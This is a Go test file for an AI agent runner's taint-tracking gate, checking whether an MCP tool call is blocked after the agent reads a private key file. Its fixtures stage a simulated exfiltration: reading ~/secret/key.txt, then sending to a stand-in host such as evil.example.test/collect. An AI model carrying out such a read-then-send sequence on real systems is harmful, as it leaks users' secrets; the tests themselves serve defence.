package mcprun_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

const taintAgent = `name = "h"
version = "1"
[mcp]
servers = ["bad"]
[read_paths]
allow = ["~/secret"]
[stages.s]
prompt = "p"
tools = ["read_file", "mcp__bad__*", "submit_output"]
`

// TestTaintPrivateThenMCPCall: Private data read through a granted path, then a call to
// an MCP tool (a server classified outbound with internal clearance). Headless: blocked,
// AutoBlock in taint_audit.json. --yolo: waived, YoloAutoApprove beside the AutoBlock. An
// allowlist rule for that server's tool and target: allowed (PolicyAllow), while the same
// rule does not cover another target (AutoBlock). Control: without the private read the
// call is within clearance.
func TestTaintPrivateThenMCPCall(t *testing.T) {
	node := nodePath(t)
	js := filepath.Join(t.TempDir(), "hostile.js")
	os.WriteFile(js, []byte(hostileJS), 0o644)
	readSecret := [2]string{"read_file", `{"path": "HOME/secret/key.txt"}`}
	call := func(host string) [2]string {
		return [2]string{"mcp__bad__probe", `{"url": "https://` + host + `/collect"}`}
	}
	allow := "[[allow]]\ntool = \"mcp__bad__probe\"\ntarget = \"hooks.example.test\"\nmax_sensitivity = \"private\"\n"
	for _, tc := range []struct {
		name    string
		calls   [][2]string
		policy  string
		yolo    bool
		sources []string
		ran     bool
	}{
		{"control: no private read", [][2]string{call("hooks.example.test")}, "", false, []string{"WithinClearance"}, true},
		{"private read, headless", [][2]string{readSecret, call("hooks.example.test")}, "", false, []string{"AutoBlock"}, false},
		{"private read, --yolo", [][2]string{readSecret, call("hooks.example.test")}, "", true, []string{"AutoBlock", "YoloAutoApprove"}, true},
		{"private read, allowlisted target", [][2]string{readSecret, call("hooks.example.test")}, allow, false, []string{"PolicyAllow"}, true},
		{"private read, other target", [][2]string{readSecret, call("evil.example.test")}, allow, false, []string{"AutoBlock"}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			w.start("[agent_read_paths.h]\nallow = [\"~/secret\"]\n[tool_permissions]\n\"mcp__bad__*\" = \"allow\"\n[mcp.servers.bad]\nclassification = \"outbound\"\nclearance = \"internal\"\ncommand = "+q(node)+"\nargs = ["+q(js)+", \"ok\"]\n",
				tc.policy, calls1("s", tc.calls...))
			w.agent("h", taintAgent)
			rec := w.run("h", tc.yolo)
			w.wholeRecord(rec)
			c := w.call(rec, "mcp__bad__probe")
			if ran := c.Refusal == nil && c.Result == "ok from ok"; ran != tc.ran {
				t.Fatalf("ran = %v, want %v: %+v", ran, tc.ran, c)
			}
			if !tc.ran && (c.Refusal.Step != "gate" || c.Refusal.Code != "AutoBlock") {
				t.Fatalf("refusal: %+v", c.Refusal)
			}
			recs := w.audit(rec)
			if s := sources(recs, "mcp__bad__probe"); !slices.Equal(s, tc.sources) {
				t.Fatalf("audit sources %v, want %v", s, tc.sources)
			}
			for _, r := range recs {
				if r.Tool == "mcp__bad__probe" && (!r.Classified || !strings.HasSuffix(r.Target, "example.test")) {
					t.Fatalf("audit record %+v", r)
				}
			}
		})
	}
}

// TestResultLabel: result_label = "private" makes what a server returns Private: the
// server's second call (clearance internal) is blocked after its first result entered the
// context; without it (the control) both run.
func TestResultLabel(t *testing.T) {
	node := nodePath(t)
	js := filepath.Join(t.TempDir(), "hostile.js")
	os.WriteFile(js, []byte(hostileJS), 0o644)
	for _, tc := range []struct {
		label   string
		sources []string
	}{
		{"", []string{"WithinClearance", "WithinClearance"}},
		{"result_label = \"private\"\n", []string{"WithinClearance", "AutoBlock"}},
	} {
		t.Run("label="+tc.label, func(t *testing.T) {
			w := newWorld(t)
			w.start("[tool_permissions]\n\"mcp__bad__*\" = \"allow\"\n[mcp.servers.bad]\nclassification = \"outbound\"\nclearance = \"internal\"\n"+tc.label+"command = "+q(node)+"\nargs = ["+q(js)+", \"ok\"]\n",
				"", calls1("s", [2]string{"mcp__bad__probe", `{}`}, [2]string{"mcp__bad__probe", `{}`}))
			w.agent("h", taintAgent)
			rec := w.run("h", false)
			w.wholeRecord(rec)
			if s := sources(w.audit(rec), "mcp__bad__probe"); !slices.Equal(s, tc.sources) {
				t.Fatalf("audit sources %v, want %v", s, tc.sources)
			}
		})
	}
}
